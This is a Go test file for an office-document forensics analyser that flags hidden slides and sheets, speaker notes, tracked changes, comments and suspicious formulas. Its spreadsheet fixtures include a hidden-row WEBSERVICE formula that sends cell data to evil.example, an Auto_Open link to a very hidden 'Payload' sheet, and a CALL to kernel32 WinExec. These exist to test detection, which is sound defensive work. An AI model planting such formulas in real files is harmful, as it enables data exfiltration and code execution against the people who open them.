package analyzers

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/Rasmus-Riis/OfficeRecon/internal/database/models"
	"github.com/Rasmus-Riis/OfficeRecon/internal/recon/testdocs"
)

func slide(show, text string) string {
	attr := ""
	if show != "" {
		attr = ` show="` + show + `"`
	}
	return `<p:sld ` + testdocs.NSPresentation + attr + `><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>` +
		text + `</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>`
}

func TestPresentation(t *testing.T) {
	parts := testdocs.PPTX()
	parts["ppt/slides/slide1.xml"] = slide("", "Agenda")
	parts["ppt/slides/slide2.xml"] = slide("0", "Layoffs Q3")
	parts["ppt/slides/slide10.xml"] = slide("", "Thanks")
	parts["ppt/notesSlides/notesSlide2.xml"] = slide("", "Do not mention the audit")
	parts["ppt/notesSlides/notesSlide1.xml"] = slide("", "Welcome everyone")
	parts["ppt/revisionInfo.xml"] = `<p188:revInfo xmlns:p188="http://schemas.microsoft.com/office/powerpoint/2018/8/main">` +
		`<p188:revLst><p188:client id="{1F2E3D4C}" v="2" dt="2024-02-03T04:05:06.000"/></p188:revLst></p188:revInfo>`
	parts["ppt/commentAuthors.xml"] = `<p:cmAuthorLst ` + testdocs.NSPresentation + `><p:cmAuthor id="1" name="Dana" initials="DS"/></p:cmAuthorLst>`
	parts["ppt/comments/comment1.xml"] = `<p:cmLst ` + testdocs.NSPresentation + `><p:cm authorId="1" dt="2024-02-03T10:00:00Z"><p:text>fix numbers</p:text></p:cm></p:cmLst>`

	r := analyze(t, Presentation{}, parts)
	assert.True(t, r.HasTag("HIDDEN SLIDES"))
	assert.True(t, r.HasTag("REVISION HISTORY"))
	assert.Equal(t, []string{"Welcome everyone", "Do not mention the audit"}, r.SpeakerNotes)

	all := strings.Join(messages(r, "pptx"), "\n")
	assert.Contains(t, all, `Hidden slide slide2.xml: "Layoffs Q3"`)
	assert.Contains(t, all, SpeakerNotesMarker+": notesSlide1.xml: Welcome everyone")
	assert.Contains(t, all, "Comment by Dana (DS) at 03/02/2024 10:00:00 +0000: fix numbers")
	assert.Equal(t, 1, r.Count(models.SeverityDanger))
}

func TestSortParts(t *testing.T) {
	got := sortParts([]string{"slide10.xml", "slide2.xml", "slide1.xml"})
	assert.Equal(t, []string{"slide1.xml", "slide2.xml", "slide10.xml"}, got)
}

func TestWorkbook(t *testing.T) {
	sheets := `<sheet name="Data" sheetId="1" r:id="rId1"/>` +
		`<sheet name="Old" sheetId="2" state="hidden" r:id="rId2"/>` +
		`<sheet name="Payload" sheetId="3" state="veryHidden" r:id="rId3"/>`
	parts := testdocs.XLSX(sheets,
		`<cols><col min="3" max="3" hidden="1"/></cols><sheetData><row r="1"><c r="A1"><f>SUM(B1:B9)</f></c></row>`+
			`<row r="2" hidden="1"><c r="A2"><f>WEBSERVICE("http://evil.example/?"&amp;A1)</f></c></row></sheetData>`,
		`<sheetData/>`, `<sheetData/>`)
	parts["xl/workbook.xml"] = strings.Replace(parts["xl/workbook.xml"], "</sheets>",
		`</sheets><definedNames><definedName name="_xlnm.Auto_Open">Payload!$A$1</definedName></definedNames>`, 1)

	r := analyze(t, Workbook{}, parts)
	for _, tag := range []string{"HIDDEN SHEET", "VERY HIDDEN SHEET", "HIDDEN CELLS", "SUSPICIOUS FORMULA", "AUTO OPEN"} {
		assert.True(t, r.HasTag(tag), tag)
	}
	assert.False(t, r.HasTag("SUSPICIOUS NAME"))

	var formulas []string
	for _, f := range r.ByAnalyzer("xlsx") {
		if f.Tag == "SUSPICIOUS FORMULA" {
			formulas = append(formulas, f.Evidence["function"])
		}
	}
	assert.Equal(t, []string{"WEBSERVICE"}, formulas)
}

func TestOpenDocumentText(t *testing.T) {
	body := `<office:body><office:text><text:tracked-changes>` +
		`<text:changed-region text:id="ct1"><text:deletion><office:change-info><dc:creator>Gina</dc:creator>` +
		`<dc:date>2024-04-01T09:00:00</dc:date></office:change-info><text:p>the old price was 10</text:p></text:deletion></text:changed-region>` +
		`<text:changed-region text:id="ct2"><text:insertion><office:change-info><dc:creator>Hal</dc:creator>` +
		`<dc:date>2024-04-02T09:00:00</dc:date></office:change-info></text:insertion></text:changed-region>` +
		`</text:tracked-changes>` +
		`<text:p><office:annotation><dc:creator>Ivy</dc:creator><dc:date>2024-04-03T09:00:00</dc:date><text:p>check this</text:p></office:annotation>Body</text:p>` +
		`<text:p><text:hidden-text text:condition="ooow:1" text:string-value="classified"/></text:p>` +
		`<text:section text:name="Appendix" text:display="none"><text:p>internal only</text:p></text:section>` +
		`</office:text></office:body>`
	parts := testdocs.ODF("application/vnd.oasis.opendocument.text", body)
	parts["VersionList.xml"] = `<VL:version-list xmlns:VL="http://openoffice.org/2001/versions-list">` +
		`<VL:version-entry VL:title="Version1" VL:creator="Gina" VL:date-time="2024-03-30T12:00:00"/></VL:version-list>`

	r := analyze(t, OpenDocument{}, parts)
	assert.True(t, r.HasTag("TRACK CHANGES"))
	assert.True(t, r.HasTag("HIDDEN TEXT"))
	assert.True(t, r.HasTag("VERSION HISTORY"))
	assert.Equal(t, "classified", r.HiddenSample)

	all := strings.Join(messages(r, "odf"), "\n")
	assert.Contains(t, all, `Tracked deletion by Gina at 01/04/2024 09:00:00: "the old price was 10"`)
	assert.Contains(t, all, "Tracked insertion by Hal")
	assert.Contains(t, all, "Comment by Ivy at 03/04/2024 09:00:00: check this")
	assert.Contains(t, all, `Hidden section "Appendix": internal only`)
}

func TestOpenDocumentSpreadsheet(t *testing.T) {
	body := `<office:automatic-styles><style:style style:name="ta2" style:family="table">` +
		`<style:table-properties table:display="false"/></style:style></office:automatic-styles>` +
		`<office:body><office:spreadsheet>` +
		`<table:table table:name="Visible"><table:table-row table:visibility="collapse"><table:table-cell table:formula="of:=WEBSERVICE(&quot;http://x&quot;)"/></table:table-row></table:table>` +
		`<table:table table:name="Secret" table:style-name="ta2"><table:table-row><table:table-cell/></table:table-row></table:table>` +
		`</office:spreadsheet></office:body>`
	r := analyze(t, OpenDocument{}, testdocs.ODF("application/vnd.oasis.opendocument.spreadsheet", body))

	var hidden []string
	for _, f := range r.ByAnalyzer("odf") {
		if f.Tag == "HIDDEN SHEET" {
			hidden = append(hidden, f.Evidence["sheet"])
		}
	}
	assert.Equal(t, []string{"Secret"}, hidden)
	assert.True(t, r.HasTag("HIDDEN CELLS"))
	assert.True(t, r.HasTag("SUSPICIOUS FORMULA"))
}

func TestOpenDocumentPresentation(t *testing.T) {
	body := `<office:body><office:presentation>` +
		`<draw:page draw:name="Intro"><presentation:notes><draw:frame><draw:text-box><text:p>remember the demo</text:p></draw:text-box></draw:frame></presentation:notes></draw:page>` +
		`<draw:page draw:name="Backup" presentation:visibility="hidden"/>` +
		`</office:presentation></office:body>`
	r := analyze(t, OpenDocument{}, testdocs.ODF("application/vnd.oasis.opendocument.presentation", body))

	assert.True(t, r.HasTag("HIDDEN SLIDES"))
	require.Len(t, r.SpeakerNotes, 1)
	assert.Equal(t, "remember the demo", r.SpeakerNotes[0])
}

func TestRevisions(t *testing.T) {
	body := `<w:p><w:ins w:id="1" w:author="Kim"><w:r><w:t>new</w:t></w:r></w:ins>` +
		`<w:del w:id="2" w:author="Kim"><w:r><w:delText>old clause</w:delText></w:r></w:del></w:p>`
	parts := testdocs.DOCX(body)
	parts["word/comments.xml"] = `<w:comments ` + testdocs.NSWord + `><w:comment w:id="0" w:author="Lee" w:initials="L" w:date="2024-01-05T08:00:00Z">` +
		`<w:p><w:r><w:t>why?</w:t></w:r></w:p></w:comment></w:comments>`

	r := analyze(t, Revisions{}, parts)
	all := strings.Join(messages(r, "revisions"), "\n")
	assert.Contains(t, all, "Tracked changes by Kim: 1 insertion(s), 1 deletion(s)")
	assert.Contains(t, all, `Recoverable deleted text: "old clause"`)
	assert.Contains(t, all, "Comment by Lee (L) at 05/01/2024 08:00:00 +0000: why?")
}

func TestFormulaFunctions(t *testing.T) {
	tests := []struct {
		formula string
		want    []string
	}{
		{`WEBSERVICE("http://x")`, []string{"WEBSERVICE"}},
		{`_xlfn.WEBSERVICE("http://x")&hyperlink("y")`, []string{"HYPERLINK", "WEBSERVICE"}},
		{`of:=INDIRECT([.A1])`, []string{"INDIRECT"}},
		{`MYCALL(1)+SUM(A1:A3)`, nil},
		{`CALLER()`, nil},
		{`CALL("kernel32","WinExec","JC","calc",0)`, []string{"CALL"}},
		{`SYSTEMS(1)`, nil},
	}
	for _, tt := range tests {
		assert.Equal(t, tt.want, formulaFunctions(tt.formula), tt.formula)
	}
}
